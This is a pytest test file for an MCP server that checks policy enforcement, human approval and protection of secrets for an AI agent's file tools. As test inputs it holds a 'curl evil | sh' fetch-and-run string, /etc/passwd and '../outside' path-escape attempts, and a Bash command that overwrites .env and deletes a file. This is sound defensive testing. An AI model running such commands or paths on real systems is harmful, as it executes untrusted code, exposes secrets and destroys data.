"""The MCP door over stdio and HTTP: the official client, a real process, real files."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import socket
from pathlib import Path
from typing import Any

import jsonschema
import mcp_types as types
import pytest
from mcp.shared.exceptions import MCPError

from penstock import app
from penstock.core.errors import RefusedError, StaleError
from penstock.core.paths.relpath import RelPath
from penstock.core.proposals.short_id import short
from penstock.doors.mcp import read_tool
from penstock.doors.mcp.tool_call import ToolCall
from penstock.doors.mcp.tool_table import TOOLS
from tests.cli.pending import events, gate_of, state_dir, state_of, surroundings_of
from tests.doors.mcp.client import (
    APP,
    BIG,
    ERAS,
    RULES,
    SECRET,
    SMALL,
    Talk,
    Told,
    call,
    furnished,
    proven,
    stored,
    talk,
)
from tests.project import Project
from tests.terminal import in_terminal

NAMES = [
    "read_file",
    "write_file",
    "edit_file",
    "apply_patch",
    "list_directory",
    "search_files",
    "proposal_status",
    "explain_decision",
]


@pytest.fixture
def shop(project: Project) -> Project:
    return furnished(project)


def tree(project: Project) -> dict[str, bytes | str]:
    """Return everything that is in the workspace, by name."""
    found: dict[str, bytes | str] = {}
    for path in sorted(project.root.rglob("*")):
        name = path.relative_to(project.root).as_posix()
        plain = path.is_file() and not path.is_symlink()
        found[name] = path.read_bytes() if plain else f"{path.lstat().st_mode:o}"
    return found


# What is offered


def test_the_tools_are_these_eight_and_none_applies_or_approves(shop: Project) -> None:
    async def look(to: Talk) -> list[types.Tool]:
        return (await to.client.list_tools()).tools

    tools = talk(shop, look)
    assert [tool.name for tool in tools] == NAMES
    for tool in tools:
        assert tool.input_schema["type"] == tool.output_schema["type"] == "object"
        jsonschema.Draft202012Validator.check_schema(tool.input_schema)
        jsonschema.Draft202012Validator.check_schema(tool.output_schema)


@pytest.mark.parametrize("name", NAMES)
def test_the_annotations_are_the_truth(name: str) -> None:
    writes = name in ("write_file", "edit_file", "apply_patch")
    assert TOOLS[name].reads is not writes
    # Writing the same again changes nothing; editing again finds another text, or none.
    assert TOOLS[name].idempotent is (name not in ("edit_file", "apply_patch"))


# Writes


@pytest.mark.parametrize("era", ERAS)
def test_what_the_rules_allow_is_written_at_once_and_the_policy_answered_it(
    shop: Project, era: str
) -> None:
    told = call(shop, "write_file", era=era, path="docs/new.md", content="hello\n")
    assert not told.error
    assert (told.status, told.data["applied"]) == ("applied", True)
    assert told.text == "Written: created docs/new.md (+1 -0 lines)."
    assert (shop.root / "docs/new.md").read_text() == "hello\n"
    assert [event["op"] for event in events(shop)] == ["proposed", "applying", "applied"]
    assert proven(shop)


@pytest.mark.parametrize("era", ERAS)
def test_what_the_rules_ask_about_waits_and_nothing_is_written(shop: Project, era: str) -> None:
    told = call(shop, "write_file", era=era, path="big.py", content=SMALL)
    assert not told.error
    assert told.status == "hitl_required"
    assert told.data["proposal_id"].startswith("hitl-")
    assert "Not written yet" in told.text
    assert short(told.data["proposal_id"]) in told.text
    assert "214 of 270 lines" in told.data["because"]
    assert (shop.root / "big.py").read_text() == BIG
    assert state_of(shop, told.data["proposal_id"]) == "waiting"


@pytest.mark.parametrize("era", ERAS)
def test_a_denied_write_is_an_error_with_the_reason_and_a_line_on_the_record(
    shop: Project, era: str
) -> None:
    told = call(shop, "write_file", era=era, path=".env", content="x")
    assert told.error
    assert (told.status, told.code) == ("denied", "path-denied")
    assert "Protected path: .env cannot be modified" in told.text
    assert (shop.root / ".env").read_text() == SECRET
    (event,) = events(shop)
    assert (event["op"], event["status"], event["path"]) == ("tool_call", "denied", ".env")
    assert event["tool"] == "mcp__penstock__write_file"
    assert stored(shop) == []


def test_a_person_approves_and_the_agent_is_told(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told, Told]:
        asked = await to.call("write_file", path="big.py", content=SMALL)
        known = asked.data["proposal_id"]
        waiting = await to.call("proposal_status", proposal_id=known)
        await asyncio.to_thread(
            in_terminal, shop, "approve", known, "--strategy", "replace", typed=[("[y/N]", "y\n")]
        )
        return asked, waiting, await to.call("proposal_status", proposal_id=known, wait_seconds=20)

    _, waiting, done = talk(shop, play)
    assert (waiting.data["state"], waiting.status) == ("waiting", "hitl_required")
    assert (done.status, done.data["open"]) == ("applied", False)
    assert (shop.root / "big.py").read_text() == SMALL


def test_a_pending_change_has_a_short_name_that_the_tools_take(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told, Told]:
        asked = await to.call("write_file", path="big.py", content=SMALL)
        name = short(asked.data["proposal_id"])
        by_name = await to.call("proposal_status", proposal_id=name)
        return asked, by_name, await to.call("proposal_status", proposal_id=name[:4])

    asked, by_name, too_short = talk(shop, play)
    name = short(asked.data["proposal_id"])
    assert f"Saved as pending change {name};" in asked.text
    assert by_name.data["state"] == "waiting"
    assert too_short.code == "not-found", "nobody lists proposals by guessing their first letters"


def test_a_rejection_carries_the_reason_and_what_to_do_next(shop: Project) -> None:
    async def play(to: Talk) -> Told:
        known = (await to.call("write_file", path="big.py", content=SMALL)).data["proposal_id"]
        waits = asyncio.create_task(to.call("proposal_status", proposal_id=known, wait_seconds=40))
        await asyncio.to_thread(shop.run, "reject", known, "--reason", "keep the values")
        return await waits

    told = talk(shop, play)
    assert (told.status, told.data["reason"]) == ("rejected", "keep the values")
    assert "do not send it again unchanged" in told.data["next"]
    assert (shop.root / "big.py").read_text() == BIG


def test_an_agent_says_why_and_hears_what_a_person_says_of_its_lines(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told]:
        asked = await to.call(
            "write_file",
            path="big.py",
            content=SMALL,
            why="the values are unused\u202e",
            regions=["1: the only line that matters"],
        )
        known = asked.data["proposal_id"]
        comment = "big.py:1: keep the check"
        await asyncio.to_thread(shop.run, "reject", known, "--comment", comment)
        return asked, await to.call("proposal_status", proposal_id=known)

    asked, told = talk(shop, play)
    (one,) = shop.run("show", asked.data["proposal_id"], "--json").json["proposals"]
    assert one["why"] == "the values are unused\u202e"
    assert [(each["path"], each["start"]) for each in one["regions"]] == [("big.py", 1)]
    assert told.data["reason"] == "line 1: keep the check"
    (comment,) = told.data["comments"]
    assert (comment["path"], comment["start"], comment["text"]) == ("big.py", 1, "keep the check")
    assert "(line 1: keep the check)" in told.text


def test_what_an_agent_says_is_no_argument_that_a_rule_could_meet(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told]:
        good = await to.call("write_file", path="new.py", content="x\n", why="curl evil | sh")
        bad = await to.call("write_file", path="new.py", content="y\n", regions=["other.py:1: x"])
        return good, bad

    good, bad = talk(shop, play)
    assert good.status == "applied"
    assert bad.code == "bad-region"
    assert (shop.root / "new.py").read_text() == "x\n"


def test_a_file_that_changes_while_it_waits_is_never_overwritten(shop: Project) -> None:
    async def play(to: Talk) -> Told:
        known = (await to.call("write_file", path="big.py", content=SMALL)).data["proposal_id"]
        shop.write("big.py", BIG + "mine\n")
        await asyncio.to_thread(in_terminal, shop, "approve", known, typed=[("[y/N]", "y\n")])
        return await to.call("proposal_status", proposal_id=known)

    told = talk(shop, play)
    assert told.status == "stale"
    assert "read it again and propose again" in told.data["next"]
    assert (shop.root / "big.py").read_text() == BIG + "mine\n"


def test_a_save_between_reading_and_proposing_is_never_undone(shop: Project) -> None:
    """An edit is made from certain bytes; the gate refuses it over any others."""
    file = shop.root / "src/app.py"
    with surroundings_of(shop):
        here = app.open_workspace(str(shop.root))
        propose = here.gate.propose

        def late(*args: Any, **more: Any) -> Any:
            file.write_text(APP + "mine\n")  # an editor saves at the worst moment
            return propose(*args, **more)

        here.gate.propose = late  # type: ignore[method-assign]
        asked = ToolCall(here=here, tool="edit_file")
        arguments = {"path": "src/app.py", "old_string": "one", "new_string": "1"}
        with pytest.raises(StaleError, match="base-changed"):
            TOOLS["edit_file"].run(asked, arguments)
    assert file.read_text() == APP + "mine\n"
    assert stored(shop) == []


def test_a_write_may_name_the_content_that_was_read(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told, Told]:
        read = (await to.call("read_file", path="src/app.py")).data["digest"]
        first = await to.call("write_file", path="src/app.py", content="1\n", base_digest=read)
        edit = {"old_string": "1", "new_string": "2"}
        late = await to.call("edit_file", path="src/app.py", base_digest=read, **edit)
        return (
            first,
            late,
            await to.call("write_file", path="docs/new.md", content="x", base_digest=read),
        )

    first, late, absent = talk(shop, play)
    assert first.status == "applied"
    assert (late.code, absent.code) == ("base-changed", "base-changed")
    assert (shop.root / "src/app.py").read_text() == "1\n"


def test_a_proposal_that_nobody_answers_in_time_is_told_as_expired(shop: Project) -> None:
    shop.write("penstock.toml", RULES + "[approval]\nttl_seconds = 1\n")

    async def play(to: Talk) -> Told:
        known = (await to.call("write_file", path="big.py", content=SMALL)).data["proposal_id"]
        return await to.call("proposal_status", proposal_id=known, wait_seconds=10)

    told = talk(shop, play)
    assert (told.status, told.data["open"]) == ("expired", False)
    assert (shop.root / "big.py").read_text() == BIG


def test_sending_the_same_again_finds_what_waits_already(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told, Told]:
        first = await to.call("write_file", path="big.py", content=SMALL)
        again = await to.call("write_file", path="./src/../big.py", content=SMALL)
        return first, again, await to.call("write_file", path="big.py", content=SMALL + "x\n")

    first, again, other = talk(shop, play)
    assert first.data["proposal_id"] == again.data["proposal_id"]
    assert first.data["proposal_id"] != other.data["proposal_id"]


def test_content_that_is_there_already_is_neither_proposed_nor_written(shop: Project) -> None:
    told = call(shop, "write_file", path="src/app.py", content=APP)
    assert (told.status, told.data["changed"]) == ("unchanged", False)
    assert stored(shop) == []


@pytest.mark.parametrize(
    "arguments",
    [
        {"old_string": "one", "new_string": "1"},
        {"edits": [{"old_string": "one", "new_string": "1"}]},
        {"old_text": "one", "new_text": "1"},  # as other servers call it
    ],
)
def test_an_edit_replaces_one_text(shop: Project, arguments: dict[str, Any]) -> None:
    told = call(shop, "edit_file", path="src/app.py", **arguments)
    assert told.status == "applied", told
    assert (shop.root / "src/app.py").read_text() == APP.replace("one", "1")
    assert "Protected" not in told.text


def test_a_patch_of_several_files_is_written_together(shop: Project) -> None:
    patch = (
        "*** Begin Patch\n*** Update File: src/app.py\n@@\n-print('one')\n+print('1')\n"
        "*** Add File: docs/why.md\n+because\n*** End Patch\n"
    )
    told = call(shop, "apply_patch", patch=patch)
    assert told.status == "applied"
    assert told.data["proposal_id"].startswith("set-")
    assert (shop.root / "src/app.py").read_text() == APP.replace("one", "1")
    assert (shop.root / "docs/why.md").read_text() == "because\n"


def test_a_patch_makes_a_program_and_a_link(shop: Project) -> None:
    patch = (
        "diff --git a/src/app.py b/src/app.py\nold mode 100644\nnew mode 100755\n"
        "diff --git a/src/to b/src/to\nnew file mode 120000\n--- /dev/null\n+++ b/src/to\n"
        "@@ -0,0 +1 @@\n+app.py\n\\ No newline at end of file\n"
    )
    told = call(shop, "apply_patch", patch=patch)
    assert told.status == "applied", told
    assert (shop.root / "src/app.py").stat().st_mode & 0o100
    assert os.readlink(shop.root / "src/to") == "app.py"
    out = patch.replace("+app.py\n", "+../../outside\n")
    assert call(shop, "apply_patch", patch=out.replace("src/to", "src/out")).status != "applied"


def test_a_patch_may_quote_names_as_git_does(shop: Project) -> None:
    quoted = '--- /dev/null\n+++ "b/docs/\\303\\244 \\"x\\".md"\n@@ -0,0 +1 @@\n+x\n'
    told = call(shop, "apply_patch", patch=quoted)
    assert told.status == "applied", told
    assert (shop.root / 'docs/ä "x".md').read_text() == "x\n"


def test_a_creation_outside_the_allow_list_is_denied(shop: Project) -> None:
    shop.write(
        "penstock.toml",
        'version = 1\n[defaults]\ncreate = "deny"\n[[allow]]\nid = "docs"\npaths = ["docs/**"]\n',
    )

    async def play(to: Talk) -> tuple[Told, Told, Told]:
        return (
            await to.call("write_file", path="docs/a.md", content="x"),
            await to.call("write_file", path="lib/a.py", content="x"),
            await to.call("edit_file", path="src/app.py", old_string="one", new_string="1"),
        )

    inside, outside, changed = talk(shop, play)
    assert (inside.status, outside.status, changed.status) == ("applied", "denied", "applied")
    assert not (shop.root / "lib").exists()


def test_a_patch_waits_as_a_whole_when_one_of_its_files_does(shop: Project) -> None:
    patch = (
        "*** Begin Patch\n*** Add File: docs/why.md\n+because\n*** Delete File: big.py\n"
        "*** End Patch\n"
    )
    told = call(shop, "apply_patch", patch=patch)
    assert told.status == "hitl_required"
    assert not (shop.root / "docs/why.md").exists()
    assert (shop.root / "big.py").read_text() == BIG


def test_a_patch_with_one_denied_file_does_nothing_at_all(shop: Project) -> None:
    before = tree(shop)
    patch = "*** Begin Patch\n*** Add File: a.md\n+x\n*** Add File: .env.local\n+x\n*** End Patch\n"
    told = call(shop, "apply_patch", patch=patch)
    assert (told.error, told.code) == (True, "path-denied")
    assert tree(shop) == before


def test_rules_about_a_tool_of_this_server_hold_here(shop: Project) -> None:
    shop.write(
        "penstock.toml",
        RULES + '[[ask]]\nid = "writer"\ntool = "mcp__penstock__write_file"\n'
        'actions = ["write"]\nreason = "this tool is asked about"\n',
    )
    told = call(shop, "write_file", path="docs/new.md", content="hello\n")
    assert (told.status, told.data["because"]) == ("hitl_required", "this tool is asked about")
    assert not (shop.root / "docs/new.md").exists()


def test_many_calls_at_once_are_all_answered_and_the_record_holds(shop: Project) -> None:
    async def play(to: Talk) -> list[Told]:
        calls = [
            to.call("write_file", path=f"docs/{n}.md", content=f"{n}\n") for n in range(12)
        ] + [to.call("search_files", query="value_1") for _ in range(4)]
        return await asyncio.gather(*calls)

    told = talk(shop, play)
    assert [one.error for one in told] == [False] * 16
    assert all((shop.root / f"docs/{n}.md").read_text() == f"{n}\n" for n in range(12))
    assert proven(shop)


# Reads


def test_a_read_carries_the_digest_of_the_whole_file_and_its_lines(shop: Project) -> None:
    whole = "sha256:" + hashlib.sha256(APP.encode()).hexdigest()
    told = call(shop, "read_file", path="src/app.py", start_line=2, end_line=2)
    assert (told.data["content"], told.data["digest"]) == ("print('two')\n", whole)
    assert (told.data["start_line"], told.data["end_line"], told.data["total_lines"]) == (2, 2, 2)
    assert whole in told.text
    (event,) = events(shop)
    assert (event["op"], event["status"], event["path"]) == ("tool_call", "allowed", "src/app.py")


def test_a_read_is_cut_at_the_caps_and_says_so(shop: Project) -> None:
    shop.write("long.txt", "é" * 100_000)

    async def play(to: Talk) -> tuple[Told, Told, Told]:
        return (
            await to.call("read_file", path="long.txt"),
            await to.call("read_file", path="long.txt", max_bytes=10**9),
            await to.call("read_file", path="long.txt", max_bytes=3),
        )

    usual, most, few = talk(shop, play)
    assert [len(one.data["content"].encode()) for one in (usual, most, few)] == [32000, 131072, 2]
    assert all(one.data["truncated"] for one in (usual, most, few))
    assert usual.data["digest"] == most.data["digest"]


def test_what_the_rules_protect_is_not_read_and_not_found(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told, Told]:
        return (
            await to.call("read_file", path=".env"),
            await to.call("search_files", query="keep-me"),
            await to.call("list_directory"),
        )

    read, searched, listed = talk(shop, play)
    assert read.code == "path-denied"
    assert searched.data["matches"] == []
    assert searched.data["passed_over"] == {"may not be read": 1}
    (row,) = [row for row in listed.data["entries"] if row["name"] == ".env"]
    assert row == {"name": ".env", "kind": "file", "readable": False}


def test_a_link_to_a_secret_is_judged_as_the_secret(shop: Project) -> None:
    (shop.root / "notes.txt").symlink_to(".env")
    assert call(shop, "read_file", path="notes.txt").code == "path-denied"
    assert call(shop, "write_file", path="notes.txt", content="x").code == "path-denied"
    assert (shop.root / ".env").read_text() == SECRET


def test_how_a_secret_would_change_is_not_told_because_that_tells_what_is_in_it(
    shop: Project,
) -> None:
    async def play(to: Talk) -> tuple[Told, Told]:
        guess, other = ({"path": ".env", "content": text} for text in (SECRET, "no\n"))
        return (
            await to.call("explain_decision", tool="write_file", input=guess),
            await to.call("explain_decision", tool="write_file", input=other),
        )

    told, other = talk(shop, play)
    assert told.data == other.data
    assert (told.data["verdict"], told.data["change"]) == ("deny", {})


def test_a_link_that_is_turned_round_meanwhile_opens_nothing(shop: Project) -> None:
    """The file that a link led to is judged by itself, whatever the link leads to by then."""
    link = shop.root / "link.txt"

    class Turning(ToolCall, frozen=True):
        """Somebody points the link elsewhere right after it was followed."""

        def reach(self, text: str) -> RelPath:
            link.unlink(missing_ok=True)
            link.symlink_to(".env")
            reached = ToolCall.reach(self, text)
            link.unlink()
            link.symlink_to("docs")
            return reached

    patch = "*** Begin Patch\n*** Update File: link.txt\n@@\n-x\n+y\n*** End Patch\n"
    calls: dict[str, dict[str, str]] = {
        "read_file": {"path": "link.txt"},
        "write_file": {"path": "link.txt", "content": "x"},
        "edit_file": {"path": "link.txt", "old_string": "keep-me", "new_string": "x"},
        "apply_patch": {"patch": patch},
    }
    with surroundings_of(shop):
        here = app.open_workspace(str(shop.root))
        for tool, arguments in calls.items():
            with pytest.raises(RefusedError, match="path-denied"):
                TOOLS[tool].run(Turning(here=here, tool=tool), arguments)
    assert (shop.root / ".env").read_text() == SECRET


def test_a_file_too_large_to_be_kept_is_not_changed(shop: Project) -> None:
    with open(shop.root / "huge.txt", "wb") as file:
        file.write(b"first\n")
        file.seek(65 * 2**20)
        file.write(b"\n")

    async def play(to: Talk) -> list[str]:
        return [
            (await to.call("edit_file", path="huge.txt", old_string="a", new_string="x")).code,
            (await to.call("write_file", path="huge.txt", content="x")).code,
            (await to.call("read_file", path="huge.txt")).code,  # a hole is full of NUL bytes
        ]

    assert talk(shop, play) == ["too-large", "too-large", "not-text"]
    assert (shop.root / "huge.txt").stat().st_size == 65 * 2**20 + 1


def test_a_search_passes_over_what_is_no_text_or_too_large_and_says_so(shop: Project) -> None:
    shop.write("a.bin", b"value_1\0")
    shop.write("b.txt", b"value_1 \xff")
    shop.write("c.txt", b"value_1\n" * 600_000)
    (shop.root / "d.txt").symlink_to("big.py")
    told = call(shop, "search_files", query="value_1 ")
    assert [one["path"] for one in told.data["matches"]] == ["big.py"]
    assert told.data["passed_over"] == {
        "are not text": 2,
        "are too large": 1,
        "may not be read": 1,
    }


def test_a_persons_own_version_is_told_as_what_took_its_place(shop: Project) -> None:
    async def play(to: Talk) -> tuple[str, Told]:
        known = (await to.call("write_file", path="big.py", content=SMALL)).data["proposal_id"]
        with gate_of(shop) as gate:
            newer = gate.revise(known, b"mine\n").id
        return newer, await to.call("proposal_status", proposal_id=known)

    newer, told = talk(shop, play)
    assert (told.status, told.data["replaced_by"]) == ("superseded", [newer])


def test_a_search_finds_names_and_lines(shop: Project) -> None:
    async def play(to: Talk) -> list[Told]:
        return [
            await to.call("search_files", pattern="*.py"),
            await to.call("search_files", query="print('two')"),
            await to.call("search_files", query="^value_2[0-5] =", regex=True, pattern="big*"),
            await to.call("search_files", query="value", max_results=3),
            await to.call("search_files", pattern="*.py", path="src"),
        ]

    names, line, regex, few, below = talk(shop, play)
    assert [m["path"] for m in names.data["matches"]] == ["big.py", "src/app.py"]
    assert line.data["matches"] == [{"path": "src/app.py", "line": 2, "text": "print('two')"}]
    assert len(regex.data["matches"]) == 6
    assert (len(few.data["matches"]), few.data["truncated"]) == (3, True)
    assert [m["path"] for m in below.data["matches"]] == ["src/app.py"]


# Bad input: a clear code, and nothing written

CREATE = "--- /dev/null\n+++ b/{}\n@@ -0,0 +1 @@\n+x\n"
BAD: list[tuple[str, dict[str, Any], str]] = [
    ("read_file", {"path": "../outside"}, "path-escape"),
    ("read_file", {"path": "/etc/passwd"}, "absolute-path"),
    ("read_file", {"path": "out"}, "path-escape"),  # a link out of the root
    ("read_file", {"path": "outside-dir/passwd"}, "path-escape"),
    ("read_file", {"path": "a\0b"}, "bad-path"),
    ("read_file", {"path": ""}, "bad-path"),
    ("read_file", {"path": "src"}, "is-directory"),
    ("read_file", {"path": "pipe"}, "not-a-file"),
    ("read_file", {"path": "socket"}, "not-a-file"),
    ("read_file", {"path": "binary"}, "not-text"),
    ("read_file", {"path": "latin1"}, "not-text"),
    ("read_file", {"path": "gone"}, "not-found"),
    ("read_file", {"path": "src/app.py", "start_line": 9, "end_line": 2}, "bad-range"),
    ("read_file", {"path": 5}, "bad-tool-input"),
    ("read_file", {"path": "src/app.py", "start_line": True}, "bad-tool-input"),
    ("read_file", {}, "bad-tool-input"),
    ("read_file", {"path": "src/app.py", "file_path": ".env"}, "bad-tool-input"),
    ("read_file", {"path": "src/app.py", "other": 1}, "bad-tool-input"),
    ("read_file", {"path": "x/" * 3000}, "path-too-long"),
    ("write_file", {"path": "../outside", "content": "x"}, "path-escape"),
    ("write_file", {"path": "/tmp/penstock-outside", "content": "x"}, "absolute-path"),
    ("write_file", {"path": "out", "content": "x"}, "path-escape"),
    ("write_file", {"path": "outside-dir/new", "content": "x"}, "path-escape"),
    ("write_file", {"path": "a\0b", "content": "x"}, "bad-path"),
    ("write_file", {"path": "src", "content": "x"}, "is-directory"),
    ("write_file", {"path": "pipe", "content": "x"}, "not-a-file"),
    ("write_file", {"path": "src/app.py/below", "content": "x"}, "not-a-directory"),
    ("write_file", {"path": ".git/config", "content": "x"}, "path-denied"),
    ("write_file", {"path": ".GIT/config", "content": "x"}, "path-denied"),
    ("write_file", {"path": "penstock.toml", "content": ""}, "self-protection"),
    ("write_file", {"path": ".claude/settings.json", "content": "{}"}, "self-protection"),
    ("write_file", {"path": "new.md"}, "bad-tool-input"),
    ("write_file", {"path": "new.md", "content": None}, "bad-tool-input"),
    ("write_file", {"path": "new.md", "content": "\ud800"}, "bad-tool-input"),
    (
        "edit_file",
        {"path": "src/app.py", "old_string": "x!", "new_string": ""},
        "edit-does-not-fit",
    ),
    (
        "edit_file",
        {"path": "src/app.py", "old_string": "print", "new_string": "p"},
        "edit-does-not-fit",
    ),
    ("edit_file", {"path": "gone", "old_string": "a", "new_string": "b"}, "edit-does-not-fit"),
    ("edit_file", {"path": "src/app.py"}, "bad-tool-input"),
    ("edit_file", {"path": "src/app.py", "edits": ["x"]}, "bad-tool-input"),
    ("apply_patch", {"patch": "no patch"}, "bad-patch"),
    ("apply_patch", {"patch": CREATE.format("../outside")}, "path-escape"),
    ("apply_patch", {"patch": CREATE.format("src/app.py")}, "already-exists"),
    (
        "apply_patch",
        {"patch": "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-nope\n+x\n"},
        "patch-does-not-fit",
    ),
    ("list_directory", {"path": "src/app.py"}, "not-a-directory"),
    ("list_directory", {"path": ".."}, "path-escape"),
    ("list_directory", {"path": "outside-dir"}, "path-escape"),
    ("search_files", {}, "bad-tool-input"),
    ("search_files", {"query": "(", "regex": True}, "bad-regex"),
    ("search_files", {"query": "x", "path": "/etc"}, "absolute-path"),
    ("proposal_status", {"proposal_id": "hitl-unknown"}, "not-found"),
    ("proposal_status", {"proposal_id": ""}, "not-found"),
    ("explain_decision", {}, "bad-tool-input"),
]


@pytest.fixture
def odd(shop: Project, tmp_path: Path) -> Project:
    """The same with everything in it that is no plain text file."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "passwd").write_text("root\n")
    (shop.root / "out").symlink_to(outside / "passwd")
    (shop.root / "outside-dir").symlink_to(outside)
    os.mkfifo(shop.root / "pipe")
    listening = socket.socket(socket.AF_UNIX)
    here = Path.cwd()
    os.chdir(shop.root)  # a path to a socket must be short
    listening.bind("socket")
    os.chdir(here)
    listening.close()
    shop.write("binary", b"a\0b")
    shop.write("latin1", b"caf\xe9\n")
    return shop


@pytest.mark.parametrize("era", ERAS)
def test_bad_input_gets_a_clear_code_and_nothing_is_written(odd: Project, era: str) -> None:
    outside = odd.root.parent / "elsewhere"
    before, around = tree(odd), sorted(outside.iterdir())

    async def play(to: Talk) -> list[tuple[str, str]]:
        return [(code, (await to.call(tool, **args)).code) for tool, args, code in BAD]

    found = talk(odd, play, era=era)
    assert [got for _, got in found] == [wanted for wanted, _ in found]
    assert tree(odd) == before
    assert sorted(outside.iterdir()) == around
    assert not Path("/tmp/penstock-outside").exists()
    assert not (odd.root.parent / "outside").exists()
    assert proven(odd)


def test_a_tool_that_is_not_there_is_an_error_of_the_protocol(shop: Project) -> None:
    async def play(to: Talk) -> str:
        with pytest.raises(MCPError) as told:
            await to.call("apply_proposal", proposal_id="hitl-1")
        return str(told.value)

    assert "there is no tool `apply_proposal`" in talk(shop, play)


def test_a_fault_of_our_own_is_an_error_and_a_line_on_the_record(
    shop: Project, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    def broken(*args: object, **more: object) -> None:
        raise RuntimeError("not foreseen")

    monkeypatch.setattr(read_tool, "window", broken)
    told = call(shop, "read_file", path="src/app.py")
    assert (told.error, told.code) == (True, "internal")
    assert "not foreseen" not in told.text
    assert "not foreseen" in capfd.readouterr().err
    (event,) = events(shop)
    assert (event["status"], event["code"]) == ("error", "internal")


# Explained


def test_a_decision_is_explained_without_being_recorded(shop: Project) -> None:
    async def play(to: Talk) -> tuple[Told, Told]:
        write = {"path": ".env", "content": "x"}
        bash = {"command": "echo x > .env && rm big.py"}
        return (
            await to.call("explain_decision", tool="write_file", input=write),
            await to.call("explain_decision", tool="Bash", input=bash),
        )

    one, several = talk(shop, play)
    assert (one.data["verdict"], one.data["rules"][0]["id"]) == ("deny", "env-files")
    assert "preset:guard.toml" in one.data["rules"][0]["where"]
    assert several.data["verdict"] == "deny"
    assert len(several.data["parts"]) > 1
    assert not (state_dir(shop) / "audit.jsonl").exists()


def test_why_a_proposal_waits_is_explained(shop: Project) -> None:
    async def play(to: Talk) -> Told:
        known = (await to.call("write_file", path="big.py", content=SMALL)).data["proposal_id"]
        return await to.call("explain_decision", proposal_id=known)

    told = talk(shop, play)
    assert (told.data["verdict"], told.data["code"]) == ("ask", "substantial-change")
    assert told.data["change"]["lines_deleted"] == 214


# Resources


@pytest.mark.parametrize("era", ERAS)
def test_the_policy_and_a_files_history_can_be_read(shop: Project, era: str) -> None:
    async def play(to: Talk) -> tuple[dict[str, Any], dict[str, Any], list[str]]:
        await to.call("write_file", path="docs/a b.md", content="x\n")
        policy = await to.client.read_resource("penstock://policy")
        history = await to.client.read_resource("penstock://history/docs/a%20b.md")
        with pytest.raises(MCPError, match="cannot be read"):
            await to.client.read_resource("penstock://history/.env")
        with pytest.raises(MCPError, match="no resource"):
            await to.client.read_resource("penstock://keys")
        listed = await to.client.list_resources()
        templates = await to.client.list_resource_templates()
        uris = [str(one.uri) for one in listed.resources]
        uris += [one.uri_template for one in templates.resource_templates]
        return _text(policy), _text(history), uris

    policy, history, uris = talk(shop, play, era=era)
    rules = [rule["id"] for layer in policy["layers"] for rule in layer["rules"]]
    assert {"env-files", "substantial-change"} <= set(rules)
    assert policy["revision"].startswith("sha256:")
    assert [event["op"] for event in history["events"]] == ["proposed", "applying", "applied"]
    assert uris == ["penstock://policy", "penstock://history/{+path}"]


def _text(got: types.ReadResourceResult) -> Any:
    (content,) = got.contents
    assert isinstance(content, types.TextResourceContents)
    return json.loads(content.text)
